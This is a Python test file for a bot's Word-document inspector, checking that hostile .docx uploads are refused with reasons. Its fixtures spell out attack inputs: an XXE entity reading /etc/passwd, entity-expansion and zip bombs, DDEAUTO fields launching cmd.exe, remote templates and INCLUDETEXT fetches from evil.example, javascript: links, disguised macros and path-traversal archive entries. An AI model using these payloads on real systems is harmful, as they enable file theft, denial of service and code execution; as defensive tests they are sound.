"""What is no letter is refused with its reason, before anything of it is kept (`reliability.md` 7)."""

import io
import random
import warnings
import zipfile

import pytest
from docxes import HEAD, MAIN, WORD, a_docx, packed, parts, rels, types

from bot.domain.attachments import MOST_BYTES
from bot.domain.messages import Refusal
from bot.word.press import inspect

DTD = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
FETCHED = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _with(**changed: str | bytes) -> bytes:
    names = {
        "types": "[Content_Types].xml",
        "document": "word/document.xml",
        "rels": "word/_rels/document.xml.rels",
    }
    return packed(parts() | {names.get(name, name): content for name, content in changed.items()})


def _many(count: int) -> bytes:
    return packed(parts() | {f"word/media/{number}.png": b"x" for number in range(count)})


def _twice() -> bytes:
    file = io.BytesIO(packed(parts()))
    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(
            "word/document.xml", parts("<w:p><w:r><w:t>other</w:t></w:r></w:p>")["word/document.xml"]
        )
    return file.getvalue()


def _locked() -> bytes:
    content = bytearray(packed(parts()))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(sign, at + 1)) >= 0:
            content[at + place] |= 1
    return bytes(content)


def _document(body: str, dtd: str = "") -> str:
    return f'{HEAD}{dtd}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return _document(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


HOSTILE = {
    "a text": (b"Dear you", "no Word document"),
    "nothing": (b"", "no Word document"),
    "half a zip": (packed(parts())[:300], "no Word document"),
    "another zip": (packed({"letter.txt": "Dear you"}), "no Word document"),
    "a workbook": (
        _with(types=types(MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet"))),
        "no Word",
    ),
    "a template of Word": (
        _with(types=types(MAIN.replace("document.main", "template.main"))),
        "no Word document",
    ),
    "no text": (
        packed({name: part for name, part in parts().items() if "word" not in name}),
        "no Word document",
    ),
    "a password": (_locked(), "password"),
    "too large": (a_docx() + b"x" * MOST_BYTES, "larger than 5 MB"),
    "a bomb": (_with(**{"word/media/a.bmp": b"\0" * 20_000_000}), "once unpacked"),
    "a large bomb": (
        _with(**{f"word/media/{one}.xml": b" " * 9_000_000 for one in range(6)}),
        "once unpacked",
    ),
    "a thousand parts": (_many(1_000), "once unpacked"),
    "macros": (_with(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    "macros by type": (
        _with(types=types("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "macros",
    ),
    "a hidden macro": (_with(**{"word/media/VBAPROJECT.png": b"\xd0\xcf\x11\xe0"}), "macros"),
    "an object": (_with(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "objects"),
    "a control": (_with(**{"word/activeX/activeX1.xml": "<a/>"}), "objects"),
    "a template elsewhere": (
        _with(rels=rels(("attachedTemplate", "http://evil.example/t.dotm", "External"))),
        "fetches something from elsewhere: attachedTemplate http://evil.example/t.dotm",
    ),
    "a picture elsewhere": (
        _with(rels=rels(("image", "file://server/share/a.png", "External"))),
        "image file:",
    ),
    "a link that runs": (
        _with(rels=rels(("hyperlink", "javascript:alert(1)", "External"))),
        "hyperlink java",
    ),
    "a field that runs": (_with(document=_field(" DDEAUTO c:\\\\cmd.exe")), "DDEAUTO"),
    "a field that runs, cut": (_with(document=_field(" DD", "EAUTO c:\\\\cmd.exe")), "DDEAUTO"),
    "a field that fetches": (
        _with(document=_document('<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example"/></w:p>')),
        "INCLUDETEXT",
    ),
    "entities": (_with(document=_document("<w:p><w:r><w:t>&b;</w:t></w:r></w:p>", DTD)), "entities"),
    "a file as entity": (_with(document=_document("<w:p>&x;</w:p>", FETCHED)), "entities"),
    "entities in a note": (_with(**{"docProps/core.xml": f"{HEAD}{DTD}<a>&b;</a>"}), "entities"),
    "broken XML": (_with(document=f'{HEAD}<w:document xmlns:w="{WORD}"><w:body>'), "can't be read"),
    "two texts": (_twice(), "same part twice"),
    "a way out": (_with(**{"word/../../../etc/cron.d/x": "x"}), "can't be read"),
    "a way to the root": (_with(**{"/etc/passwd": "x"}), "can't be read"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_it_is_refused_with_its_reason(what: str) -> None:
    content, reason = HOSTILE[what]
    with pytest.raises(Refusal) as refusal:
        inspect(content)
    message = refusal.value.message
    assert reason in message.text.format(**message.values)


def test_an_ordinary_file_passes_with_its_links_and_pictures() -> None:
    links = rels(("hyperlink", "https://nordvik.example/", "External"), ("image", "media/a.png", ""))
    inspect(_with(rels=links, **{"word/media/a.png": b"\x89PNG" * 100}))
    inspect(a_docx("Dear {{ contact.name }}", header="{{ today }}"))


def test_a_file_that_takes_too_much_memory_is_given_up() -> None:
    """Thirty megabytes of nothing but elements become a gigabyte once they are read."""
    dice = random.Random(7)
    block = "".join(f'<w:p w:a="{dice.randrange(256):02x}"/>' for _ in range(4_000))
    content = _with(document=_document(block * 450))
    assert len(content) < MOST_BYTES
    with pytest.raises(Refusal, match="can't be read"):
        inspect(content)
